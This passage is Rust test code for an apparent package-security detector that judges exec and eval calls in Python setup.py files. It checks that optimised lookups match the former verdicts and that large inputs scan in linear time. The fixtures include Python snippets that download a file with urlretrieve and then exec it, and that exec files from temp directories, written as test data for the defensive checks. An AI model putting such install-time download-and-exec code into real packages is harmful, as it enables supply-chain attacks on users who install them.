        let (mut found, mut unicode) = (0, 0);
        for text in pysrc::random_texts(&pieces, 16, 0x2545_f491_4f6c_dd1d, 20_000) {
            let want = groups(&WRITES, &text);
            assert_eq!(groups(writes_regex(&text), &text), want, "{text:?}");
            found += want.len();
            unicode += usize::from(std::ptr::eq(writes_regex(&text), &*WRITES));
        }
        assert!(found > 150 && unicode > 400, "matches and both regexes exercised: {found}, {unicode}");
    }

    /// Judging an exec's arguments with what it reads first gives the answer of the former
    /// order (written by the module, then a non-code file named, then what is read), on named
    /// cases (each test deciding) and random texts.
    #[test]
    fn reading_first_gives_the_same_judgement() {
        fn former(text: &str, args: &str, at: usize) -> bool {
            if module_fetches(text) {
                return false;
            }
            if args.contains(".decode(") && !TEXT_DECODES.find_iter(args).count().eq(&args.matches(".decode(").count())
            {
                return false;
            }
            if written_by_module(text, args) || names_a_non_code_file(text, args, Some(at)) {
                return false;
            }
            let blanked = blank_strings(args);
            let code = COMMENT.replace_all(&blanked, "");
            reads_local_file(first_argument(&code).trim(), text, at, 0)
        }
        let cases = [
            ("a local version file", "exec(open('pkg/version.py').read())\n"),
            ("a non-code file", "exec(open('docs/notes.md').read())\n"),
            ("a name bound to a non-code file", "p = 'data.json'\nexec(open(p).read())\n"),
            ("written by the module", "open('v.py', 'w').write(x)\nexec(open('v.py').read())\n"),
            ("an expression with a namespace", "exec(code, globalns, localns)\n"),
            ("eval of a name", "eval(annotation, globalns)\n"),
            ("a module that fetches", "urlretrieve(u, 'v.py')\nexec(open('v.py').read())\n"),
        ];
        let pieces = [
            "p = ",
            "'v.py'",
            "'notes.md'",
            "open(",
            "p",
            ")",
            ".read()",
            ", 'w').write(x)",
            "\n",
            "exec(",
            "eval(",
            "exec(open('pkg/v.py').read())\n",
            "exec(open(p).read())\n",
            "with open(p) as f:\n    exec(f.read())\n",
            "with open(p) as f:\n    ",
            "f",
            ", ns",
            "# c",
            "é",
        ];
        let random = pysrc::random_texts(&pieces, 16, 0x6a09_e667_f3bc_c908, 3_000);
        let texts = cases
            .iter()
            .map(|(c, t)| (c.to_string(), t.to_string()))
            .chain(random.into_iter().map(|t| (format!("{t:?}"), t)));
        let (mut calls, mut local) = (0, 0);
        for (case, text) in texts {
            for m in text.match_indices("exec(").chain(text.match_indices("eval(")) {
                let at = m.0 + 5;
                let Some(args) = argument_text(&text, at) else { continue };
                let now = exec_arguments_read_local_file(&text, args, at);
                assert_eq!(now, former(&text, args, at), "{case} at {at}");
                calls += 1;
                local += usize::from(now);
            }
        }
        assert!(calls > 1_000 && local > 20, "both answers: {local} of {calls} calls read a local file");
    }

    /// With a member's index in force, the lookups give exactly what they give without it:
    /// the top-level statement of every offset, the values reaching every use of every name
    /// (one list shared by every module-level use), and every path's judgement.
    #[test]
    fn member_index_lookups_equal_the_direct_ones() {
        let cases = [
            ("empty", ""),
            (
                "module, function and class scopes",
                "p = 'v.py'\ndef f():\n    p = tempfile.mkdtemp()\n    exec(open(p).read())\nclass C:\n    p = 'x'\nexec(open(p).read())\n",
            ),
            ("else and except continue a statement", "if x:\n    p = 'a'\nelse:\n    p = 'b'\ntry:\n    q = p\nexcept E:\n    q = '/tmp/x'\n"),
            ("async def, for loops", "async def g():\n    for p in open('v'):\n        pass\nfor p in open('w'):\n    exec(p)\n"),
            ("non-ASCII and CRLF", "é = 1\r\np = os.path.join(here, 'é.py')\r\nhere = '/tmp'\r\n"),
            ("no newline at the end", "def f():\n    p = 1"),
            ("a module that fetches", "p = 'v.py'\nurlretrieve(u, p)\nexec(open(p).read())\n"),
        ];
        let pieces = [
            "p",
            " = ",
            "open(",
            ")",
            "'v.py'",
            "tempfile.gettempdir()",
            "\n",
            "    ",
            "def f():",
            "class C:",
            "else:",
            "for p in ",
            ": ",
            "here",
            "os.path.join(here, p)",
            "#",
            "é",
            "\t",
            "exec(",
            "(",
            "urlopen(",
            "requests.get (",
        ];
        let random = pysrc::random_texts(&pieces, 24, 0x2545_f491_4f6c_dd1d, 400);
        let texts = cases
            .iter()
            .map(|(c, t)| (c.to_string(), t.to_string()))
            .chain(random.into_iter().map(|t| (format!("{t:?}"), t)));
        let mut looked = 0;
        for (case, text) in texts {
            let offsets: Vec<usize> = (0..=text.len()).filter(|&o| text.is_char_boundary(o)).collect();
            let lookups = |text: &str| -> Vec<String> {
                let mut out = Vec::new();
                for &o in &offsets {
                    out.push(format!("top {o} {}", top_statement_start(text, o)));
                    for name in ["p", "q", "here", "é"] {
                        out.push(format!("{name}@{o} {:?}", assigned_values(text, name, o)));
                    }
                    for path in ["p", "os.path.join(here, p)", "here", "q"] {
                        out.push(format!("{path}@{o} {}", path_names_local(path, text, o, 0)));
                    }
                }
                out.push(format!("fetches {}", module_fetches(text)));
                out
            };
            let direct = lookups(&text);
            let _indexed = Indexed::enter(&text);
            assert!(MemberIndex::of(&text).is_some(), "{case}: the index is in force");
            assert_eq!(lookups(&text), direct, "{case}");
            // Twice: the second time every lookup is remembered.
            assert_eq!(lookups(&text), direct, "{case}, remembered");
            looked += direct.len();
        }
        assert!(looked > 20_000, "{looked}");
        // A slice of the member is not the member: looked up directly.
        let text = "p = 'v.py'\nq = p\n".to_string();
        let _indexed = Indexed::enter(&text);
        assert!(MemberIndex::of(&text[..10]).is_none());
        assert!(MemberIndex::of(&text[1..]).is_none());
    }

    /// A setup.py of 20,000 version-file reads in the spellings that reach the per-name
    /// lookups (each read judged against every open of its name, every assignment of its path
    /// and every write of the module) is scanned in linear time: before the member's index,
    /// the first spelling took minutes, past `max_scan_seconds`, which a member's detector run
    /// does not check. The reads are still judged: the module's own file is Low, and the same
    /// spelling of a temp-dir path is still High.
    #[test]
    fn many_version_file_reads_cost_linear_time() {
        use crate::scan::detectors::testutil::scan;
        let join = "os.path.join(os.path.dirname(__file__), 'v.py')";
        let block = "with open(p) as f:\n    exec(f.read())\n";
        let cases: [(&str, String, Severity); 6] = [
            (
                "with-open blocks at module level",
                format!("import os\np = {join}\n{}", block.repeat(20_000)),
                Severity::Low,
            ),
            (
                "an older f = open(...) rebound by every block",
                format!("import os\nf = open('README.md')\np = {join}\n{}", block.repeat(20_000)),
                Severity::Low,
            ),
            (
                "the blocks inside one function",
                format!(
                    "import os\ndef main():\n    p = {join}\n{}main()\n",
                    "    with open(p) as f:\n        exec(f.read())\n".repeat(20_000)
                ),
                Severity::Low,
            ),
            (
                "the path assigned before every block",
                format!("import os\n{}", format!("p = {join}\n{block}").repeat(20_000)),
                Severity::Low,
            ),
            (
                "a module that decodes and writes, 20,000 writes",
                format!(
                    "import os, base64\np = {join}\n{}{block}",
                    "open('out.txt', 'w').write(base64.b64decode(s))\n".repeat(20_000)
                ),
                Severity::Low,
            ),
            (
                "a temp-dir path",
                format!("import tempfile\np = tempfile.gettempdir() + '/v.py'\n{}", block.repeat(20_000)),
                Severity::High,
            ),
        ];
        for (case, text, want) in cases {
            let t = std::time::Instant::now();
            let got = scan(&DynamicCode, "demo-1.0/setup.py", FileRole::InstallTime, &text);
            eprintln!("{case}: {} bytes, {:?}", text.len(), t.elapsed());
            assert!(!got.is_empty(), "{case}: the execs are reported");
            assert!(got.iter().all(|g| g.severity == want), "{case}: {:?}", got.first());
            assert!(t.elapsed() < std::time::Duration::from_secs(2), "{case}: {:?}", t.elapsed());
        }
    }
}
